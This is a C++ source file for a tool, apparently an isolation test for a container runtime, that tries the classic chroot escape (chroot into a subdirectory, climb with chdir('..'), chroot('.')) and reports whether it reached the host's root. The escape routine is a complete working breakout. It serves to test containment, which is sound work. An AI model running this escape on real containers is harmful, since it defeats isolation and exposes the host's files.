// berth-chroot-escape — the classic escape from a chroot, made harmless.
//
//   berth-chroot-escape [PATH]
//
// Run it as root inside a container. It tries the escape, then says where it
// ended up: it lists "/" as it now sees it and, given PATH (a path on the
// host), whether PATH is visible. Exit status: 0 if it got out (its "/" is
// no longer the container's), 1 if it is still inside, 2 if a step failed.
//
// It only reads and lists. The one thing it writes is an empty directory in
// the container's own /tmp, a tmpfs that disappears with the container.
//
// Statically linked and libc-only, so it runs inside a busybox tree that has
// no shared libraries: copy it into the rootfs and run it from there.
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

bool step(int result, const char* what) {
  if (result == 0) {
    return true;
  }
  static_cast<void>(
      std::fprintf(stderr, "berth-chroot-escape: %s: %s\n", what, std::strerror(errno)));
  return false;
}

bool same_directory(const struct stat& a, const struct stat& b) {
  return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

void list_root() {
  DIR* root = ::opendir("/");
  if (root == nullptr) {
    return;
  }
  std::printf("/ holds:");
  while (const dirent* entry = ::readdir(root)) {
    if (entry->d_name[0] != '.') {
      std::printf(" %s", entry->d_name);
    }
  }
  std::printf("\n");
  ::closedir(root);
}

// #region escape
// The escape. chroot() moves the root, but not the current directory, and
// ".." only stops at the root. So: chroot into a subdirectory while standing
// outside it, and the current directory is now above the root, where ".."
// is free to climb to the top of the mount namespace's tree; chroot(".")
// there makes that the root again.
bool escape() {
  char inner[] = "/tmp/escape-XXXXXX";
  if (::mkdtemp(inner) == nullptr) {
    return step(-1, "mkdtemp /tmp/escape-XXXXXX");
  }
  if (!step(::chdir("/"), "chdir /") || !step(::chroot(inner), "chroot into a subdirectory")) {
    return false;
  }
  for (int i = 0; i < 256; ++i) {  // deeper than any real path
    if (!step(::chdir(".."), "chdir ..")) {
      return false;
    }
  }
  return step(::chroot("."), "chroot .");
}
// #endregion escape

}  // namespace

int main(int argc, char** argv) {
  if (argc > 2) {
    static_cast<void>(std::fprintf(stderr, "usage: berth-chroot-escape [PATH]\n"));
    return 2;
  }
  struct stat before {};
  struct stat after {};
  if (!step(::stat("/", &before), "stat /") || !escape() || !step(::stat("/", &after), "stat /")) {
    return 2;
  }
  const bool escaped = !same_directory(before, after);
  std::printf("%s\n", escaped ? "escaped: this / is not the container's"
                              : "still inside: this / is the container's");
  list_root();
  if (argc == 2) {
    const bool visible = ::access(argv[1], F_OK) == 0;
    std::printf("%s is %s\n", argv[1], visible ? "visible" : "not visible");
  }
  return escaped ? 0 : 1;
}
